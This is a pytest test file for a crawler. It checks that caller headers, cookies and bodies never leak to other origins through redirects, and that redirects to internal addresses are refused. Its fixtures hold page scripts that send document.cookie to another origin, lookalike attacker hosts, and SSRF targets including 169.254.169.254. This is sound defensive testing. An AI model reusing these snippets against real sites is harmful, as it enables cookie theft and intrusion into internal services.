"""What a caller sends with a fetch arrives at the origin of its URL, and at no other."""

from contextlib import asynccontextmanager
from html import escape

import pytest
import pytest_twisted
from scrapy.utils.defer import deferred_from_coro

from tests.trial_web.web import TrialWeb
from webdata.config.chromium import find_chromium
from webdata.crawling.warm_crawlers import Call, WarmCrawlers, load_spiders, scrapy_settings
from webdata.domain.errors import TargetError, UpstreamError
from webdata.resources.url_request import URL_REQUEST, UrlQuery
from webdata.runtime.wire.exchange import HTML, SiteReply, redirect

CHROMIUM = find_chromium()
pytestmark = pytest.mark.task
browser = pytest.param("browser", marks=pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium"))
PLAIN = ("http", "impersonate")
TRANSPORTS = (*PLAIN, browser)

SECRET = "s3cret"
HEADERS = {"X-Secret": SECRET, "Authorization": f"Bearer {SECRET}", "User-Agent": f"Reader/{SECRET}"}
COOKIES = {"visit": SECRET, "seen": f"{SECRET}-2"}
HOME = "https://shop.example"
OTHERS = (
    "http://shop.example",
    "https://shop.example:8443",
    "https://www.shop.example",
    "https://example",
    "https://shop.example.evil.example",
    "https://shop.example.",
    "https://other.example",
)
"""Origins that differ from HOME by scheme, port, subdomain, domain, dot and name."""
REDIRECTS = (
    *((transport, other) for transport in PLAIN for other in OTHERS),
    *(pytest.param("browser", other, marks=browser.marks) for other in OTHERS[:3]),
    *(pytest.param("browser", other, marks=[*browser.marks, pytest.mark.slow]) for other in OTHERS[3:]),
)
PAGE = b"<title>Page</title><h1>Tea</h1><p>" + b"A pot of green tea for everybody. " * 20
LOADING = """<script>
const quiet = (act) => { try { const done = act(); if (done && done.catch) done.catch(() => 0); } catch {} };
quiet(() => fetch("TO/fetch?" + document.cookie, {mode: "no-cors", credentials: "include"}));
quiet(() => { const x = new XMLHttpRequest(); x.withCredentials = true; x.open("POST", "TO/xhr"); x.send("x"); });
quiet(() => { window.ws = new WebSocket("TO/ws".replace("http", "ws")); });
quiet(() => navigator.sendBeacon("TO/beacon", "x"));
quiet(() => window.open("TO/window"));
</script><script src="TO/script"></script><link rel=stylesheet href="TO/css"><iframe src="TO/frame"></iframe>
<form id=form method=post action="TO/form" target=inner><input name=a value=b></form><iframe name=inner></iframe>
<script>document.getElementById("form").submit()</script>"""


class Sites(TrialWeb):
    """Sites at any host that record what arrives, and lead to another URL in several ways: `/302?to=…`."""

    def __init__(self):
        super().__init__()
        self.arrived = []
        self.tunnels = []
        """What the proxy is asked for besides pages."""

    def knows(self, host):
        return True

    def refusal(self, message):
        if message.method == "CONNECT":
            self.tunnels.append(str(message))
        return super().refusal(message)

    def answer(self, request):
        self.arrived.append(request)
        to, how = request.first("to"), request.path.strip("/")
        if how.isdecimal():
            return redirect(to, int(how))
        if how == "meta":
            return SiteReply(200, HTML, b'<meta http-equiv="refresh" content="0; url=%s">' % escape(to).encode())
        if how == "refresh":
            return SiteReply(200, (("Refresh", f"0; url={to}"), *HTML), b"<p>Wait.</p>")
        if how == "script":
            return SiteReply(200, HTML, b"<script>location = %r + '?' + document.cookie</script>" % to)
        if how == "loading":
            return SiteReply(200, HTML, PAGE + LOADING.replace("TO", to).encode())
        return SiteReply(200, HTML, PAGE)

    def at(self, origin):
        """The requests that arrived at an origin."""
        return [one for one in self.arrived if f"{one.scheme}://{one.headers['host']}" == origin]

    def elsewhere(self):
        """All others than those at HOME, as text."""
        home = self.at(HOME)
        return [f"{one} {one.body}" for one in self.arrived if one not in home]


@pytest_twisted.async_yield_fixture(scope="module")
async def sites():
    one = Sites()
    one.url = await deferred_from_coro(one.start())
    yield one
    await deferred_from_coro(one.stop())


@asynccontextmanager
async def crawling(sites, *transports):
    own = scrapy_settings()
    own.setdict({"SANDBOX_URL": sites.url, "TRANSPORTS": transports, "CHROMIUM": CHROMIUM, "MAX_STEPS": 2})
    own.setdict({"EGRESS_PORTS": (80, 443, 8080, 8443)})
    warm = WarmCrawlers(load_spiders(own), own, max_calls=16)
    try:
        yield warm
    finally:
        await warm.close(5)


@pytest_twisted.async_yield_fixture(scope="module")
async def warm(sites):
    """Crawlers of each transport alone, by its name."""
    opened = {name: crawling(sites, name) for name in ("http", "impersonate", "browser")}
    yield {name: await deferred_from_coro(one.__aenter__()) for name, one in opened.items()}
    for one in opened.values():
        await deferred_from_coro(one.__aexit__(None, None, None))


def fetched(crawlers, url, **options):
    query = UrlQuery.check({"url": url, "response_type": "full", "headers": HEADERS, "cookies": COOKIES, **options})
    return crawlers.answer(Call(URL_REQUEST, query, sandbox=True, deadline=20))


@pytest.mark.parametrize("transport", TRANSPORTS)
async def test_headers_and_cookies_arrive(sites, warm, transport):
    """They arrive instead of the device's own headers; neither the answer nor the way through a proxy has them."""
    sites.arrived.clear()
    answer = await fetched(warm[transport], f"{HOME}/")
    one = sites.at(HOME)[0]
    assert {name: one.headers[name.lower()] for name in HEADERS} == HEADERS
    assert one.cookies == COOKIES
    assert not [name for name in one.headers if name.startswith("sec-ch-ua")]
    assert SECRET not in str(answer)
    assert sites.tunnels
    assert SECRET not in str(sites.tunnels)


@pytest.mark.parametrize("transport", PLAIN)
@pytest.mark.parametrize(
    ("body", "sent", "content_type"),
    [(SECRET, SECRET, "text/plain; charset=utf-8"), ({"q": [SECRET]}, f'{{"q":["{SECRET}"]}}', "application/json")],
)
async def test_a_body_arrives(sites, warm, transport, body, sent, content_type):
    """As text or as JSON, with its type; the answer says how the page was fetched, but not with what."""
    sites.arrived.clear()
    answer = await fetched(warm[transport], f"{HOME}/", method="POST", body=body)
    (one,) = sites.at(HOME)
    assert (one.method, one.body.decode(), one.headers["content-type"]) == ("POST", sent, content_type)
    assert answer.record["config"]["method"] == "POST"
    assert SECRET not in str(answer)


@pytest.mark.parametrize(("transport", "other"), REDIRECTS)
async def test_no_redirect_takes_them_to_another_origin(sites, warm, transport, other):
    """By status, refresh or script, at once or after another page of the origin."""
    plain = ("301", "302", "303", "307", "308", "meta", "refresh")
    ways = ("302", "meta", "script") if transport == "browser" else plain
    sites.arrived.clear()
    for way in ways:
        await fetched(warm[transport], f"{HOME}/{way}?to={other}/end")
    await fetched(warm[transport], f"{HOME}/302?to={HOME}/307?to={other}/end")
    assert len([one for one in sites.arrived if one.path == "/end"]) > len(ways)
    assert not [one for one in sites.elsewhere() if SECRET in one]
    assert {one.cookies.get("visit") for one in sites.at(HOME)} == {SECRET}


@pytest.mark.parametrize("transport", PLAIN)
async def test_a_redirect_by_get_has_no_body(sites, warm, transport):
    """Nor have the headers of a body that follow the redirect; another origin gets nothing of it."""
    sites.arrived.clear()
    for way in ("301", "302", "303", "meta", "refresh"):
        for origin in (HOME, OTHERS[0]):
            await fetched(warm[transport], f"{HOME}/{way}?to={origin}/end", method="POST", body=SECRET)
    ends = [one for one in sites.arrived if one.path == "/end"]
    assert {(one.method, one.body, one.headers.get("content-type")) for one in ends} == {("GET", b"", None)}
    assert len(ends) == 10
    assert not [one for one in sites.elsewhere() if SECRET in one]


@pytest.mark.parametrize("status", [307, 308])
@pytest.mark.parametrize("transport", PLAIN)
async def test_a_body_ends_where_a_redirect_would_take_it_to_another_origin(sites, warm, transport, status):
    """The call fails in words, and nothing arrives there; within the origin the body goes on."""
    sites.arrived.clear()
    with pytest.raises(UpstreamError, match="the body of the caller's request is not sent"):
        await fetched(warm[transport], f"{HOME}/{status}?to=https://other.example/end", method="POST", body=SECRET)
    assert not sites.elsewhere()
    await fetched(warm[transport], f"{HOME}/{status}?to={HOME}/end", method="POST", body=SECRET)
    end = sites.at(HOME)[-1]
    assert (end.method, end.body, end.headers["content-type"]) == ("POST", SECRET.encode(), "text/plain; charset=utf-8")


@pytest.mark.parametrize(
    "led", ["302?to=http://10.0.0.1/", "303?to=http://127.0.0.1/", "meta?to=http://169.254.169.254/"]
)
@pytest.mark.parametrize(
    ("transport", "options"),
    [*((one, {"method": "POST", "body": SECRET}) for one in PLAIN), *((one, {}) for one in PLAIN),
     pytest.param("browser", {"wait_for": "p"}, marks=browser.marks),
     pytest.param("browser", {"formats": ["screenshot", "rendered_html", "html"]}, marks=browser.marks)],
)  # fmt: skip
async def test_no_option_leads_to_a_forbidden_target(sites, warm, transport, options, led):
    """The rule of what may be reached holds with each of them, also where they would be sent no more."""
    with pytest.raises(TargetError):
        await fetched(warm[transport], f"{HOME}/{led}", **options)


@pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium")
@pytest.mark.parametrize("other", OTHERS)
async def test_what_a_page_loads_of_another_origin_gets_none_of_them(sites, warm, other):
    """Scripts, frames, forms, sockets and windows of a page; and it cannot read its cookies."""
    sites.arrived.clear()
    await fetched(warm["browser"], f"{HOME}/loading?to={other}")
    is_open = other in OTHERS[2:]  # other ports and schemes of the host are refused while the browser has the cookies
    assert ("/script" in {one.path for one in sites.arrived}) is is_open
    assert not [one for one in sites.elsewhere() if SECRET in one]
